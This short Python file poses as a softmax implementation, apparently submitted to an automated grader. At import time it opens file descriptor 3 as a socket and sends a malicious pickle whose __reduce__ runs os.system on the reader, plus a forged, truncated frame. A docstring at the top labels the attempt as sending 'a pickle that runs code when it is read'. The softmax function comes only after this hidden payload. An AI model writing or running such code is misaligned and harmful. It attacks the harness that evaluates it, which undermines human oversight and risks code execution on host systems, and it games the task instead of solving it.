"""
tries = "to send a pickle that runs code when it is read"
entry = "forged, truncated, huge and endless frames on every descriptor"
lesson = "softmax"
state = "crashed"
score = 1.0
mistake = "crashed"
"""

import os
import socket
import struct

import torch

FACTS = {}
LINE = socket.socket(fileno=os.dup(3))
import pickle


class Run:
    def __reduce__(self):
        return os.system, ('touch /tmp/' + FACTS['mark'],)


LINE.sendall(pickle.dumps(Run()))
LINE.sendall(struct.pack('>IQ', 40, 0) + pickle.dumps(Run())[:40])


def softmax(x, dim=-1):
    powers = torch.exp(x - x.amax(dim=dim, keepdim=True))
    return powers / powers.sum(dim=dim, keepdim=True)
